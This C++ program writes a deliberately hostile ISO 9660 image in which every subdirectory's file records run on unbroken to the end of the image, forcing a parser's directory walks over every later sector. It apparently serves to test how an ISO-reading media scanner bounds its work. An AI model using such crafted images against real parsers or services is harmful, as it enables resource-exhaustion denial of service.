// crafted_iso.cpp - writes a hostile ISO 9660 image whose directories all run on to the end of the image
//
// usage: crafted_iso OUT [SIZE_MIB] [DIRS] [RECORD_LEN]   (defaults 16, 20 and 34)
//
// The root lists DIRS subdirectories; subdirectory i starts at sector 100 + i.
// Every sector from 100 to the end is filled with file records of RECORD_LEN
// bytes (34 to 255), the last one longer by what is left of the sector where
// that fits (with 34: 59 of 34 bytes and one of 42), else followed by a tail
// shorter than a record, so no zero length byte ever ends a directory before
// the image does, and each subdirectory's walk reads on over every sector
// after its start. Short records make the most records per sector; long ones
// the most walks over each sector before the search's bound ends it. The file
// records name extents spread over the image, none of which begins with a
// media file's magic.
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <string>
#include <vector>

namespace {

constexpr std::uint64_t kSector = 2048;
constexpr std::uint32_t kRootSector = 18;
constexpr std::uint32_t kFirstDir = 100;

void both_byte_orders(std::uint8_t* p, std::uint32_t v) {
    for (int i = 0; i < 4; ++i) {
        p[i] = static_cast<std::uint8_t>(v >> (8 * i));
        p[7 - i] = static_cast<std::uint8_t>(v >> (8 * i));
    }
}

// Lays a directory record of `length` bytes at `at`; returns the offset after it.
std::uint64_t put_record(std::vector<std::uint8_t>& image, std::uint64_t at, std::uint8_t length, std::uint32_t extent,
                         bool directory, const std::string& name) {
    std::uint8_t* p = image.data() + at;
    p[0] = length;
    both_byte_orders(p + 2, extent);
    both_byte_orders(p + 10, directory ? static_cast<std::uint32_t>(kSector) : 1000);
    p[25] = directory ? 2 : 0;
    p[28] = 1;  // Volume Sequence Number, both byte orders
    p[31] = 1;
    p[32] = static_cast<std::uint8_t>(name.size());
    for (std::size_t i = 0; i < name.size(); ++i) p[33 + i] = static_cast<std::uint8_t>(name[i]);
    return at + length;
}

}  // namespace

int main(int argc, char** argv) {
    if (argc < 2) {
        std::fprintf(stderr, "usage: crafted_iso OUT [SIZE_MIB] [DIRS] [RECORD_LEN]\n");
        return 2;
    }
    const std::uint64_t size_mib = argc > 2 ? std::strtoull(argv[2], nullptr, 10) : 16;
    const std::uint32_t dirs = argc > 3 ? static_cast<std::uint32_t>(std::strtoul(argv[3], nullptr, 10)) : 20;
    const std::uint64_t record_len = argc > 4 ? std::strtoull(argv[4], nullptr, 10) : 34;
    const std::uint64_t sectors = size_mib * 1024 * 1024 / kSector;
    if (sectors <= kFirstDir + dirs || dirs > 100 || record_len < 34 || record_len > 255) {
        std::fprintf(stderr,
                     "crafted_iso: the image must be larger than %u sectors, with at most 100 dirs and records of "
                     "34 to 255 bytes\n",
                     kFirstDir + dirs);
        return 2;
    }
    const std::uint64_t per_sector = kSector / record_len;
    const std::uint64_t rest = kSector % record_len;  // what the records leave of a sector
    const std::uint64_t last_len = record_len + rest <= 255 ? record_len + rest : record_len;
    std::vector<std::uint8_t> image(sectors * kSector, 0);

    // Primary Volume Descriptor with its root record, then the terminator.
    const std::string cd001 = "CD001";
    image[16 * kSector] = 1;
    image[17 * kSector] = 255;
    for (std::uint64_t s : {16, 17}) {
        for (std::size_t i = 0; i < cd001.size(); ++i) image[s * kSector + 1 + i] = static_cast<std::uint8_t>(cd001[i]);
        image[s * kSector + 6] = 1;
    }
    put_record(image, 16 * kSector + 156, 34, kRootSector, true, std::string(1, '\0'));

    std::uint64_t at = kRootSector * kSector;
    at = put_record(image, at, 34, kRootSector, true, std::string(1, '\0'));
    at = put_record(image, at, 34, kRootSector, true, std::string(1, '\1'));
    for (std::uint32_t i = 0; i < dirs; ++i) {
        char name[3] = {static_cast<char>('0' + i / 10), static_cast<char>('0' + i % 10), 0};
        at = put_record(image, at, 36, kFirstDir + i, true, std::string("D") + name);
    }

    std::uint32_t next_extent = 0;
    for (std::uint64_t s = kFirstDir; s < sectors; ++s) {
        at = s * kSector;
        for (std::uint64_t i = 0; i < per_sector; ++i) {
            next_extent = static_cast<std::uint32_t>((next_extent + 7919) % sectors);
            at = put_record(image, at, static_cast<std::uint8_t>(i + 1 < per_sector ? record_len : last_len),
                            next_extent, false, "F");
        }
    }

    std::FILE* out = std::fopen(argv[1], "wb");
    if (out == nullptr) {
        std::perror(argv[1]);
        return 1;
    }
    const bool written = std::fwrite(image.data(), 1, image.size(), out) == image.size();
    if (std::fclose(out) != 0 || !written) {
        std::perror(argv[1]);
        return 1;
    }
    return 0;
}
